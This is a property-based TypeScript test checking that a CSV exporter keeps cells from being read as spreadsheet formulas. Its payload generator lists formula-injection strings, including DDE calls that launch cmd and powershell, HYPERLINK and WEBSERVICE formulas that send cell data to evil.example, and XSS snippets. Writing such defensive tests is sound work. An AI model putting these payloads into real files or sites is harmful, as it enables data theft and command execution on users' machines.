// No cell of a file for spreadsheets starts a formula, whatever an imported text tries, and no text is lost on the way.

import fc from 'fast-check';
import { describe, expect, it } from 'vitest';
import { csvCell, csvLine } from '#src/model/csv.ts';
import { propertyRuns } from '../../support/property-runs.ts';
import { readCsv } from '../practice/read-csv.ts';

/** Two thousand of them in daily runs: something that may be skipped, a sign that starts a formula, what it would do. */
const RUNS = propertyRuns(2000);

const skipped = fc.constantFrom(
  '',
  ' ',
  '\t',
  '\r',
  '\n',
  '\r\n',
  '\u00a0',
  '\u3000',
  '\u0000',
  '\u0001',
  '\ufeff',
  '\u200b',
  '\u2060',
  '\u00ad',
  '\u200e',
  '\u202e',
);
const sign = fc.constantFrom('=', '+', '-', '@', '＝', '＋', '－', '＠', '\t=', '\r=');
const deed = fc.constantFrom(
  "cmd|'/c calc'!A0",
  'HYPERLINK("http://evil.example?x="&A1,"click")',
  'IMPORTXML(CONCAT("http://evil.example/",A1),"//a")',
  'WEBSERVICE("http://evil.example")',
  '1+1',
  'SUM(1;1)*cmd|" /C powershell"!A0',
  'DDE("cmd";"/C calc";"x")',
  '<script>alert(1)</script>',
  '"><img src=x onerror=alert(1)>',
  '"",=1+1',
  '",=1+1,"',
  '\r\n=1+1',
);
const rest = fc.string({ unit: 'binary', maxLength: 12 });
const payload = fc
  .tuple(fc.array(skipped, { maxLength: 3 }), sign, deed, rest)
  .map(([a, b, c, d]) => a.join('') + b + c + d);

/** What a spreadsheet sees first, when it skips what it may. */
const seenFirst = (cell: string): string => cell.replace(/^[\s\p{C}]+/u, '').slice(0, 1);

describe('a cell', () => {
  it('starts no formula, and gives the text back', () => {
    fc.assert(
      fc.property(payload, (text) => {
        const [row] = readCsv(csvLine(['first', 'second', 'third']) + csvLine(['a', text, 'b']));
        const cell = row?.['second'] ?? '';
        expect(row).toMatchObject({ first: 'a', third: 'b' });
        expect('=+-@＝＋－＠'.includes(seenFirst(cell))).toBe(false);
        expect(cell).toBe(`'${text}`);
      }),
      { numRuns: RUNS },
    );
  });

  it('keeps a harmless text as it is', () => {
    fc.assert(
      fc.property(fc.string({ unit: 'grapheme', maxLength: 30 }), (text) => {
        fc.pre(!/^[\s\p{C}]*[=+\-@＝＋－＠]/u.test(text) && !/^[\t\r\n]/.test(text));
        const [row] = readCsv(csvLine(['x', 'y']) + csvLine([text, 'b']));
        expect(row?.['x']).toBe(text);
      }),
      { numRuns: RUNS },
    );
    expect([csvCell(-5), csvCell(null), csvCell(true)]).toEqual(['-5', '', 'true']);
  });
});
